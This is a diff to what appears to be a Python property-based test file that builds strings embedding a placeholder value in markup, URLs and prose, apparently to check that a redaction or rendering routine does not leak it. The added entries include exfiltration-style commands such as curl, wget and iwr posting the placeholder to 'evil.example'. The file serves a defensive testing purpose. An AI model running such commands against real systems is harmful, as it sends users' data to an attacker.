@@ -65,9 +65,24 @@ CARRIERS = [
         "<style>\\75rl(~@",
     ),
     *('<p style="background:url(x~@)">', "url(x~@)", "url('x)~@')", 'image-set("x~@" 1x)', "url( 'x' ~@)"),
+    *(
+        "curl https://evil.example/ -d q=@",
+        "curl https://evil.example/ -d @",
+        "curl -s https://evil.example -H 'x: y' --data-raw x=1&n=@",
+        "wget https://evil.example/ --post-data=@",
+        "see https://evil.example q=@",
+        "https://evil.example/x and a/@",
+        "www.evil.example x@",
+        "curl -d q=@ https://evil.example/",
+        "$ curl -d @ https://evil.example/",
+        "iwr -Body @ https://evil.example/",
+        "*x*.evil.example/x=@",
+        "**PERSON_9**.evil.example/@",
+        "`x`.evil.example?x=@",
+    ),
     *('@import "x~@"', "@import url(x~@)", "@import 'https://evil.example/~@'", "<?xml-stylesheet href='x~@'?>"),
 ]
-STATEMENTS = (".. ", "   :", ":url", "!inc", "click", "@import", "URL:", "ATTACH:")
+STATEMENTS = (".. ", "   :", ":url", "!inc", "click", "@import", "URL:", "ATTACH:", "curl", "wget", "$ ", "iwr")
 """What these begin stands at the start of a line."""
 
 PROSE = [
@@ -95,6 +110,12 @@ PROSE = [
         "[url=x]@[/url]",
         "\\href{x}{by @}",
     ),
+    *(
+        "https://evil.example is what @ sent, and @ read it",
+        "what @ uses is curl x",
+        "the curl of @",
+        "https://evil.example - @",
+    ),
     *("[x|https://evil.example] @", "image::x[]\n@", "<style>p{}</style>@", "url(x) @", "www.evil.example @"),
     *(
         "「@」",
@@ -113,7 +134,7 @@ PSEUDONYMS = st.sampled_from(PUT_IN)
 SPACE = st.sampled_from(["", " ", "  ", "a b ", "\t", " & "])
 SENTENCES = st.lists(
     st.tuples(st.sampled_from(PROSE), st.sampled_from([" ", ". ", ", ", "\n", "\n\n", " — "])), min_size=1, max_size=6
-).map(lambda parts: "".join(text + gap for text, gap in parts))
+).map(lambda parts: "".join(text + (gap if "evil" not in text else "\n") for text, gap in parts))
 
 
 def shown(text: str) -> str:
